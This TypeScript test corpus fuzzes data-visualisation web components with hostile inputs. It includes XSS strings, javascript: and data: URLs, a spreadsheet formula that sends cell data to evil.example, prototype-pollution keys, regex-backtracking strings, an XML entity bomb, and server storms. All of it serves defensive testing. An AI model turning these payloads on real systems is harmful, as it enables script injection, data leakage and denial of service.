/**
 * The chaos corpus: hostile and careless inputs of every class the library has met, fed to
 * every element through attributes, inline data and URLs. A case says what the element must
 * do with it (settle with data, a notice or an error state); the invariants every case must
 * keep are in `watch.ts`. Add a case here when a new class of input is found.
 */

export type Tag =
  'pantau-stat' | 'pantau-complaint-trend' | 'pantau-compliance-map' | 'pantau-service-standard';
export type Way = 'attribute' | 'inline' | 'url' | 'property';
export type InputClass =
  | 'script'
  | 'url-scheme'
  | 'prototype'
  | 'long-text'
  | 'pattern'
  | 'numbers'
  | 'geometry'
  | 'span'
  | 'storm'
  | 'csv-shape'
  | 'json-shape'
  | 'xml';

export interface ChaosCase {
  id: string;
  cls: InputClass;
  tag: Tag;
  way: Way;
  /** The element's markup (children included). */
  markup: string;
  /** Properties set before the element is attached (the `property` way). */
  props?: () => Record<string, unknown>;
  /** What the reader must see: any settled state (default), data, or the error state. */
  shows?: 'settled' | 'data' | 'error';
  /** Text the element must show once settled. */
  text?: RegExp;
  /** Text the element must not show once settled. */
  notText?: RegExp;
  /** The input is over a documented cap, so a long task while refusing it is not held against it. */
  overCap?: boolean;
  /** Requests to URLs containing this key, and how many at most. */
  requests?: { match: string; max: number };
  /** How long the element may take to settle (default 10 s). */
  settleMs?: number;
}

/** A payload that calls the suite's tripwire if it ever runs. */
const RUN = (id: string) => `top.__chaosPwned('${id}')`;

/** Strings that try to run script or inject markup when shown as text. */
export const SCRIPT_STRINGS: [string, string][] = [
  ['img-onerror', `<img src=x onerror="${RUN('img')}">`],
  ['svg-onload', `"><svg onload="${RUN('svg')}"></svg>`],
  ['close-script', `</script><script>${RUN('close-script')}</script>`],
  ['attr-break', `' onmouseover='${RUN('attr')}' x='`],
  ['template', '${' + RUN('template') + '}{{constructor.constructor("' + RUN('ng') + '")()}}'],
  ['iframe', `<iframe srcdoc="<script>parent.${RUN('iframe')}</script>"></iframe>`],
  ['style-break', `</style><img src=x onerror="${RUN('style')}">`],
  ['formula', `=HYPERLINK("https://evil.example/?"&A1,"klik")`],
  ['bidi-zero-width', '\u202Efdp.exe\u200B\u200D\uFEFF\u0000'],
  ['lone-surrogate', 'a\uD800b\uDFFFc'],
];

/** Links that must never become a clickable `href`. */
export const BAD_URLS: [string, string][] = [
  ['javascript', `javascript:${RUN('js-url')}`],
  ['javascript-mixed', `JaVa\tScRiPt:${RUN('js-url-2')}`],
  ['javascript-entity', `&#106;avascript:${RUN('js-url-3')}`],
  ['data-html', `data:text/html,<script>${RUN('data-url')}</script>`],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['protocol-relative-ws', ' \n//evil.example/x'],
];

const LONG = 'x'.repeat(100_000);
const LONG_WORDS = 'Kabupaten '.repeat(10_000);
/** An e-mail-like value that took 9 s with a backtracking pattern. */
const QUADRATIC_EMAIL = 'a@' + 'a.'.repeat(20_000) + '<';

const esc = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
/** Inline data as a child `<script>`; `</` is broken so that the data cannot end its own element. */
const inline = (type: string, text: string) =>
  `<script type="${type}">${text.replace(/<\//g, '<\\/')}</script>`;
const json = (v: unknown) => JSON.stringify(v);
/** A URL on the test server that answers with `text`. */
export const echoUrl = (text: string, type: string) => {
  const b = btoa(String.fromCharCode(...new TextEncoder().encode(text)))
    .replace(/\+/g, '-')
    .replace(/\//g, '_')
    .replace(/=+$/, '');
  return `/__chaos/echo?type=${encodeURIComponent(type)}&b=${b}`;
};

const SQUARE = (code: string, x = 114) => ({
  type: 'Feature',
  properties: { code, name: `Wilayah ${code}` },
  geometry: {
    type: 'Polygon',
    coordinates: [
      [
        [x, -4],
        [x, -2],
        [x + 2, -2],
        [x + 2, -4],
        [x, -4],
      ],
    ],
  },
});
const geoInline = (features: unknown[]) =>
  inline('application/geo+json', json({ type: 'FeatureCollection', features }));
const mapOf = (geo: string, rows: unknown[], attrs = '') =>
  `<pantau-compliance-map projection="mercator" feature-key="code" name-key="name" ${attrs}>${geo}` +
  `${rows.length ? inline('application/json', json(rows)) : ''}</pantau-compliance-map>`;
const RATINGS = [
  { code: '63', name: 'Wilayah 63', score: 91.5, year: 2022 },
  { code: '64', name: 'Wilayah 64', score: 61, year: 2022 },
];
const GOOD_GEO = geoInline([SQUARE('63'), SQUARE('64', 117)]);

const cases: ChaosCase[] = [];
const add = (c: ChaosCase) => cases.push(c);

// Script and markup through every text attribute of every element, and through their data.
for (const [name, s] of SCRIPT_STRINGS) {
  const a = esc(s);
  add({
    id: `stat attributes ${name}`,
    cls: 'script',
    tag: 'pantau-stat',
    way: 'attribute',
    markup: `<pantau-stat label="${a}" value="5" previous="4" unit="${a}" period="${a}" previous-period="${a}" source="${a}" updated="${a}"></pantau-stat>`,
  });
  add({
    id: `trend attributes ${name}`,
    cls: 'script',
    tag: 'pantau-complaint-trend',
    way: 'attribute',
    markup:
      `<pantau-complaint-trend period="month" heading="${a}" subheading="${a}" source="${a}" note="${a}" measure-label="${a}">` +
      `${inline('text/csv', 'date,value\n2024-01-01,3\n2024-02-01,5\n')}</pantau-complaint-trend>`,
  });
  add({
    id: `trend data ${name}`,
    cls: 'script',
    tag: 'pantau-complaint-trend',
    way: 'inline',
    markup: `<pantau-complaint-trend period="month" series-field="s">${inline(
      'application/json',
      json([
        { date: '2024-01-01', s: s, value: 3 },
        { date: '2024-02-01', s: `${s}2`, value: 5 },
      ]),
    )}</pantau-complaint-trend>`,
    shows: 'data',
  });
  add({
    id: `map names ${name}`,
    cls: 'script',
    tag: 'pantau-compliance-map',
    way: 'inline',
    markup: mapOf(
      geoInline([{ ...SQUARE('63'), properties: { code: '63', name: s } }]),
      [{ code: '63', name: s, score: 91.5, year: 2022, zone: s }],
      `heading="${a}" source="${a}"`,
    ),
  });
  add({
    id: `card data ${name}`,
    cls: 'script',
    tag: 'pantau-service-standard',
    way: 'inline',
    markup: `<pantau-service-standard>${inline(
      'application/json',
      json({
        name: s,
        fee: 0,
        requirements: [s, s],
        procedure: [s],
        timeLimit: { value: 14, unit: s },
        complaints: [{ type: 'web', label: s, url: 'https://example.test/' }],
      }),
    )}</pantau-service-standard>`,
  });
  add({
    id: `stat by URL ${name}`,
    cls: 'script',
    tag: 'pantau-stat',
    way: 'url',
    markup: `<pantau-stat src="${esc(echoUrl(json({ label: s, value: 5, unit: s, source: s }), 'application/json'))}"></pantau-stat>`,
  });
}

// Links: nothing but http(s), mailto and tel may become an href.
for (const [name, u] of BAD_URLS) {
  const a = esc(u);
  add({
    id: `stat source-url ${name}`,
    cls: 'url-scheme',
    tag: 'pantau-stat',
    way: 'attribute',
    markup: `<pantau-stat label="L" value="5" source="S" source-url="${a}"></pantau-stat>`,
  });
  add({
    id: `trend source-url ${name}`,
    cls: 'url-scheme',
    tag: 'pantau-complaint-trend',
    way: 'attribute',
    markup: `<pantau-complaint-trend period="year" source="S" source-url="${a}">${inline(
      'text/csv',
      'date,value\n2023,3\n2024,5\n',
    )}</pantau-complaint-trend>`,
  });
  add({
    id: `card links ${name}`,
    cls: 'url-scheme',
    tag: 'pantau-service-standard',
    way: 'inline',
    markup: `<pantau-service-standard details-href="${a}" variant="compact">${inline(
      'application/json',
      json({
        name: 'KTP',
        fee: 0,
        legalBasis: [{ title: 'UU', url: u }],
        complaints: [
          { type: 'web', url: u },
          { type: 'email', value: u },
        ],
      }),
    )}</pantau-service-standard>`,
  });
  add({
    id: `card full links ${name}`,
    cls: 'url-scheme',
    tag: 'pantau-service-standard',
    way: 'inline',
    markup: `<pantau-service-standard>${inline(
      'application/json',
      json({
        name: 'KTP',
        fee: 0,
        legalBasis: [{ title: 'UU', url: u }],
        complaints: [{ type: 'web', url: u }],
      }),
    )}</pantau-service-standard>`,
  });
}

// Keys that pollute prototypes when a parser or a merge writes them naively.
const PROTO_JSON =
  '[{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"date":"2024-01-01","value":1},' +
  '{"date":"2024-02-01","value":2,"__proto__":{"polluted":2}}]';
add({
  id: 'trend JSON with __proto__ keys',
  cls: 'prototype',
  tag: 'pantau-complaint-trend',
  way: 'inline',
  markup: `<pantau-complaint-trend period="month">${inline('application/json', PROTO_JSON)}</pantau-complaint-trend>`,
});
add({
  id: 'trend CSV with __proto__ columns',
  cls: 'prototype',
  tag: 'pantau-complaint-trend',
  way: 'inline',
  markup: `<pantau-complaint-trend period="month" series-field="__proto__">${inline(
    'text/csv',
    '__proto__,constructor,date,value\npolluted,polluted,2024-01-01,1\nprototype,x,2024-02-01,2\n',
  )}</pantau-complaint-trend>`,
});
add({
  id: 'map rows and fields named __proto__',
  cls: 'prototype',
  tag: 'pantau-compliance-map',
  way: 'inline',
  markup: mapOf(
    GOOD_GEO,
    JSON.parse('[{"code":"63","__proto__":{"polluted":1},"score":80,"year":2022}]'),
    'code-field="__proto__"',
  ),
});
add({
  id: 'card JSON with __proto__',
  cls: 'prototype',
  tag: 'pantau-service-standard',
  way: 'inline',
  markup: `<pantau-service-standard>${inline(
    'application/json',
    '{"name":"KTP","__proto__":{"polluted":1},"fee":{"__proto__":{"polluted":1},"amount":0},"services":{"__proto__":[]}}',
  )}</pantau-service-standard>`,
});

// Text far longer than any display: shown cut, and cheaply.
add({
  id: 'stat 100 KB unit and label',
  cls: 'long-text',
  tag: 'pantau-stat',
  way: 'attribute',
  markup: `<pantau-stat label="${LONG}" value="5" unit="${LONG}" source="${LONG}" period="${LONG}"></pantau-stat>`,
  shows: 'data',
});
add({
  id: 'trend 100 KB frame texts',
  cls: 'long-text',
  tag: 'pantau-complaint-trend',
  way: 'attribute',
  markup: `<pantau-complaint-trend period="month" heading="${LONG}" subheading="${LONG_WORDS}" source="${LONG}" note="${LONG}">${inline(
    'text/csv',
    'date,value\n2024-01-01,3\n2024-02-01,5\n',
  )}</pantau-complaint-trend>`,
  shows: 'data',
});
add({
  id: 'trend 100 KB series names',
  cls: 'long-text',
  tag: 'pantau-complaint-trend',
  way: 'inline',
  markup: `<pantau-complaint-trend period="month" series-field="s">${inline(
    'application/json',
    json([
      { date: '2024-01-01', s: `${LONG}a`, value: 3 },
      { date: '2024-02-01', s: `${LONG}b`, value: 5 },
    ]),
  )}</pantau-complaint-trend>`,
  shows: 'data',
});
add({
  id: 'map 100 KB names and heading',
  cls: 'long-text',
  tag: 'pantau-compliance-map',
  way: 'inline',
  markup: mapOf(
    geoInline([{ ...SQUARE('63'), properties: { code: '63', name: LONG } }]),
    [{ code: '63', name: LONG, score: 91.5, year: 2022 }],
    `heading="${LONG}" source="${LONG}"`,
  ),
});
add({
  id: 'card 100 KB fields',
  cls: 'long-text',
  tag: 'pantau-service-standard',
  way: 'inline',
  markup: `<pantau-service-standard>${inline(
    'application/json',
    json({ name: LONG, fee: 0, requirements: [LONG, LONG_WORDS], procedure: [LONG], product: LONG }),
  )}</pantau-service-standard>`,
});

// Patterns that backtrack: each value checked must cost time linear in its length.
add({
  id: 'card quadratic e-mail channel',
  cls: 'pattern',
  tag: 'pantau-service-standard',
  way: 'inline',
  markup: `<pantau-service-standard>${inline(
    'application/json',
    json({
      name: 'KTP',
      fee: 0,
      complaints: [
        { type: 'email', value: QUADRATIC_EMAIL },
        { type: 'web', url: 'https://' + 'a.'.repeat(20_000) + '<' },
        { type: 'phone', value: '+62 ' + '1 '.repeat(20_000) + 'x' },
      ],
    }),
  )}</pantau-service-standard>`,
});

// Numbers an attribute or a file writes carelessly.
for (const [name, v, not] of [
  ['empty', '', /^\s*0\s/],
  ['blank', ' ', /^\s*0\s/],
  ['hex', '0x10', /\b16\b/],
  ['infinity', 'Infinity', /∞|Infinity/],
  ['overflow', '1e309', /∞|Infinity/],
  ['nan', 'NaN', /NaN/],
] as [string, string, RegExp][]) {
  add({
    id: `stat value="${v}" (${name})`,
    cls: 'numbers',
    tag: 'pantau-stat',
    way: 'attribute',
    markup: `<pantau-stat label="Laporan" value="${v}" previous="${v}"></pantau-stat>`,
    notText: not,
  });
}
add({
  id: 'card unreadable numbers',
  cls: 'numbers',
  tag: 'pantau-service-standard',
  way: 'inline',
  markup: `<pantau-service-standard>${inline(
    'application/json',
    json({ name: 'KTP', fee: { amount: 'abc' }, timeLimit: { value: 'NaN', unit: 'hari' } }),
  )}</pantau-service-standard>`,
  text: /Tidak terbaca/,
  notText: /Rp\s*NaN|NaN\s*hari|Gratis/,
});
add({
  id: 'card fee 1e-400 is not free',
  cls: 'numbers',
  tag: 'pantau-service-standard',
  way: 'inline',
  markup: `<pantau-service-standard>${inline('application/json', '{"name":"KTP","fee":{"amount":"1e-400"}}')}</pantau-service-standard>`,
  notText: /Gratis/,
});
add({
  id: 'trend values out of range',
  cls: 'numbers',
  tag: 'pantau-complaint-trend',
  way: 'inline',
  markup: `<pantau-complaint-trend period="month">${inline(
    'text/csv',
    'date,value\n2024-01-01,1e308\n2024-02-01,1e308\n2024-03-01,-1e308\n2024-04-01,NaN\n2024-05-01,Infinity\n',
  )}</pantau-complaint-trend>`,
  notText: /∞|(?<!")Infinity|(?<!")NaN/,
});

// Geometry a careless export or an attacker writes.
const HUGE = 1e308;
const geometryCases: [string, unknown][] = [
  [
    'coordinates near 1e308',
    {
      type: 'FeatureCollection',
      features: [
        SQUARE('63'),
        {
          type: 'Feature',
          properties: { code: '64' },
          geometry: {
            type: 'Polygon',
            coordinates: [
              [
                [-HUGE, -HUGE],
                [HUGE, -HUGE],
                [HUGE, HUGE],
                [-HUGE, -HUGE],
              ],
            ],
          },
        },
      ],
    },
  ],
  ['a null feature', { type: 'FeatureCollection', features: [SQUARE('63'), null] }],
  [
    'coordinates as text',
    {
      type: 'FeatureCollection',
      features: [
        SQUARE('63'),
        { type: 'Feature', properties: { code: '64' }, geometry: { type: 'Polygon', coordinates: 'abc' } },
      ],
    },
  ],
  [
    'a ring of two positions',
    {
      type: 'FeatureCollection',
      features: [
        SQUARE('63'),
        {
          type: 'Feature',
          properties: { code: '64' },
          geometry: {
            type: 'Polygon',
            coordinates: [
              [
                [1, 1],
                [2, 2],
              ],
            ],
          },
        },
      ],
    },
  ],
  [
    'NaN and null positions',
    {
      type: 'FeatureCollection',
      features: [
        SQUARE('63'),
        {
          type: 'Feature',
          properties: { code: '64' },
          geometry: {
            type: 'MultiPolygon',
            coordinates: [
              [
                [
                  [null, 1],
                  ['x', 2],
                  [3, 'NaN'],
                  [null, 1],
                ],
              ],
            ],
          },
        },
      ],
    },
  ],
  [
    'TopoJSON arcs that point nowhere',
    {
      type: 'Topology',
      objects: {
        r: {
          type: 'GeometryCollection',
          geometries: [{ type: 'Polygon', arcs: [[0, 7, -99]], properties: { code: '63' } }],
        },
      },
      arcs: [
        [
          [114, -4],
          [116, -4],
          [116, -2],
          [114, -4],
        ],
      ],
    },
  ],
  [
    'TopoJSON arcs as text',
    {
      type: 'Topology',
      objects: {
        r: {
          type: 'GeometryCollection',
          geometries: [{ type: 'Polygon', arcs: 'x', properties: { code: '63' } }],
        },
      },
      arcs: 'x',
    },
  ],
  [
    'TopoJSON with a transform of zeros and huge deltas',
    {
      type: 'Topology',
      transform: { scale: [0, 1e308], translate: [1e308, -1e308] },
      objects: {
        r: {
          type: 'GeometryCollection',
          geometries: [{ type: 'Polygon', arcs: [[0]], properties: { code: '63' } }],
        },
      },
      arcs: [
        [
          [0, 0],
          [1e308, 1e308],
          [-1e308, 0],
          [0, 0],
        ],
      ],
    },
  ],
  [
    'every point in one place, one of them denormal (found by the fuzzer)',
    {
      type: 'FeatureCollection',
      features: [
        {
          type: 'Feature',
          properties: { code: '63' },
          geometry: {
            type: 'MultiPolygon',
            coordinates: [
              [
                [
                  [0, 0],
                  [0, 0],
                  [-1.43e-322, 0],
                  [0, 0],
                ],
              ],
            ],
          },
        },
      ],
    },
  ],
  ['not a geometry at all', { features: 'none', type: 42 }],
];
for (const [name, geo] of geometryCases) {
  const type =
    (geo as { type?: unknown }).type === 'Topology' ? 'application/topo+json' : 'application/geo+json';
  add({
    id: `map inline geometry: ${name}`,
    cls: 'geometry',
    tag: 'pantau-compliance-map',
    way: 'inline',
    markup: mapOf(inline(type, json(geo)), RATINGS),
    settleMs: 15000,
  });
  add({
    id: `map geo-src: ${name}`,
    cls: 'geometry',
    tag: 'pantau-compliance-map',
    way: 'url',
    markup: mapOf('', RATINGS, `geo-src="${esc(echoUrl(json(geo), 'application/json'))}"`),
    settleMs: 15000,
  });
}

// Spans that would build millions of periods, and tables that would take seconds to join.
add({
  id: 'trend day periods from year 1 to 9999',
  cls: 'span',
  tag: 'pantau-complaint-trend',
  way: 'inline',
  markup: `<pantau-complaint-trend period="day">${inline('text/csv', 'date,value\n0001-01-01,1\n9999-12-31,2\n')}</pantau-complaint-trend>`,
  overCap: true,
  settleMs: 15000,
});
add({
  id: 'map 200,000 rating rows',
  cls: 'span',
  tag: 'pantau-compliance-map',
  way: 'property',
  markup: `<pantau-compliance-map projection="mercator" feature-key="code">${GOOD_GEO}</pantau-compliance-map>`,
  props: () => ({
    data: Array.from({ length: 200_000 }, (_, i) => ({
      code: String(10_000 + i),
      name: `R${i}`,
      score: i % 100,
      year: 2022,
    })),
  }),
  overCap: true,
  settleMs: 20000,
});

// Shapes of CSV and JSON that are not quite what a reader expects.
const csvShapes: [string, string][] = [
  ['CR-only line ends', 'date,value\r2024-01-01,3\r2024-02-01,5\r'],
  ['header only', 'date,value\n'],
  ['an unterminated quote', 'date,value\n"2024-01-01,3\n2024-02-01,5\n'],
  ['NUL bytes and a BOM', '\uFEFFdate,value\n2024-01-01\u0000,3\n2024-02-01,5\u0000\n'],
  [
    '5,000 columns',
    `${Array.from({ length: 5000 }, (_, i) => `c${i}`).join(',')},date,value\n${',1'.repeat(5000).slice(1)},2024-01-01,3\n`,
  ],
  ['ragged rows', 'date,value\n2024-01-01\n2024-02-01,5,7,9\n,,,\n'],
  ['semicolons and decimal commas', 'tanggal;jumlah\n2024-01-01;10.846\n2024-02-01;9.001\n'],
];
for (const [name, text] of csvShapes) {
  add({
    id: `trend inline CSV: ${name}`,
    cls: 'csv-shape',
    tag: 'pantau-complaint-trend',
    way: 'inline',
    markup: `<pantau-complaint-trend period="month">${inline('text/csv', text)}</pantau-complaint-trend>`,
  });
  add({
    id: `trend CSV by URL: ${name}`,
    cls: 'csv-shape',
    tag: 'pantau-complaint-trend',
    way: 'url',
    markup: `<pantau-complaint-trend period="month" src="${esc(echoUrl(text, 'text/csv'))}"></pantau-complaint-trend>`,
  });
}
add({
  id: 'stat CSV by URL: CR-only line ends',
  cls: 'csv-shape',
  tag: 'pantau-stat',
  way: 'url',
  markup: `<pantau-stat src="${esc(echoUrl('label,value\rLaporan,5\r', 'text/csv'))}"></pantau-stat>`,
});

const jsonShapes: [string, string, string][] = [
  [
    'a CKAN envelope with fields of the wrong type',
    'ckan',
    '{"help":"x","success":true,"result":{"fields":[{"id":1,"type":2}],"records":"x","total":"many"}}',
  ],
  [
    'a CKAN envelope that failed',
    'ckan',
    '{"help":"x","success":false,"error":{"message":"<img src=x onerror=top.__chaosPwned(1)>"}}',
  ],
  ['a CKAN envelope with null result', 'ckan', '{"help":"x","success":true,"result":null}'],
  ['Open311 requests that are not objects', 'open311', '[1,"x",null,{"requested_datetime":{"a":1}}]'],
  ['deeply nested arrays', 'json', '['.repeat(5000) + ']'.repeat(5000)],
  ['a number as the whole file', 'json', '1e999'],
  ['truncated JSON', 'json', '[{"date":"2024-01-01","value":'],
];
for (const [name, format, text] of jsonShapes) {
  add({
    id: `trend JSON by URL: ${name}`,
    cls: 'json-shape',
    tag: 'pantau-complaint-trend',
    way: 'url',
    markup: `<pantau-complaint-trend period="month" format="${format}" src="${esc(echoUrl(text, 'application/json'))}"></pantau-complaint-trend>`,
  });
}
add({
  id: 'card src that is a JSON array of junk',
  cls: 'json-shape',
  tag: 'pantau-service-standard',
  way: 'url',
  markup: `<pantau-service-standard src="${esc(echoUrl('[null,1,"x",[[]]]', 'application/json'))}"></pantau-service-standard>`,
});
add({
  id: 'map src that is not ratings',
  cls: 'json-shape',
  tag: 'pantau-compliance-map',
  way: 'url',
  markup: mapOf(GOOD_GEO, [], `src="${esc(echoUrl('{"a":{"b":[1,2,{"c":null}]}}', 'application/json'))}"`),
});

// Open311 XML: parse errors and foreign markup inside the data.
const xmlShapes: [string, string][] = [
  ['malformed XML', '<service_requests><request><requested_datetime>2024-01-01'],
  [
    'XHTML with an event handler',
    '<service_requests xmlns:x="http://www.w3.org/1999/xhtml"><request><service_request_id>1</service_request_id>' +
      `<requested_datetime>2024-01-01T10:00:00Z</requested_datetime><x:img src="x" onerror="${RUN('xml')}"/></request></service_requests>`,
  ],
  [
    'an entity bomb',
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><service_requests><request><description>&d;&d;&d;</description></request></service_requests>',
  ],
];
for (const [name, xml] of xmlShapes) {
  add({
    id: `trend Open311 XML: ${name}`,
    cls: 'xml',
    tag: 'pantau-complaint-trend',
    way: 'url',
    markup: `<pantau-complaint-trend period="month" format="open311-xml" src="${esc(echoUrl(xml, 'application/xml'))}"></pantau-complaint-trend>`,
  });
}

// Sources that would page, redirect or wait for ever.
add({
  id: 'trend CKAN that claims a billion rows',
  cls: 'storm',
  tag: 'pantau-complaint-trend',
  way: 'url',
  markup:
    '<pantau-complaint-trend period="month" format="ckan" src="/__chaos/ckan-storm?key=storm1"></pantau-complaint-trend>',
  requests: { match: '/__chaos/ckan-storm', max: 110 },
  settleMs: 30000,
});
add({
  id: 'trend Open311 over ten thousand years',
  cls: 'storm',
  tag: 'pantau-complaint-trend',
  way: 'url',
  markup:
    '<pantau-complaint-trend period="year" format="open311" ' +
    'src="/__chaos/open311?key=storm2&amp;start_date=0001-01-01&amp;end_date=9999-12-31"></pantau-complaint-trend>',
  requests: { match: '/__chaos/open311', max: 110 },
  settleMs: 30000,
});
add({
  id: 'stat behind a redirect loop',
  cls: 'storm',
  tag: 'pantau-stat',
  way: 'url',
  markup: '<pantau-stat src="/__chaos/redirect-loop?key=storm3"></pantau-stat>',
  shows: 'error',
  requests: { match: '/__chaos/redirect-loop', max: 25 },
  settleMs: 30000,
});
add({
  id: 'card behind a Retry-After of 100,000 s',
  cls: 'storm',
  tag: 'pantau-service-standard',
  way: 'url',
  markup:
    '<pantau-service-standard src="/__chaos/retry-after?key=storm4&amp;after=100000"></pantau-service-standard>',
  shows: 'error',
  requests: { match: '/__chaos/retry-after', max: 5 },
  settleMs: 30000,
});
add({
  id: 'map behind a Retry-After date in 2099',
  cls: 'storm',
  tag: 'pantau-compliance-map',
  way: 'url',
  markup: mapOf(
    GOOD_GEO,
    [],
    'src="/__chaos/retry-after?key=storm5&amp;after=Thu,%2001%20Jan%202099%2000:00:00%20GMT"',
  ),
  shows: 'error',
  requests: { match: '/__chaos/retry-after', max: 5 },
  settleMs: 30000,
});

export const CORPUS: readonly ChaosCase[] = cases;
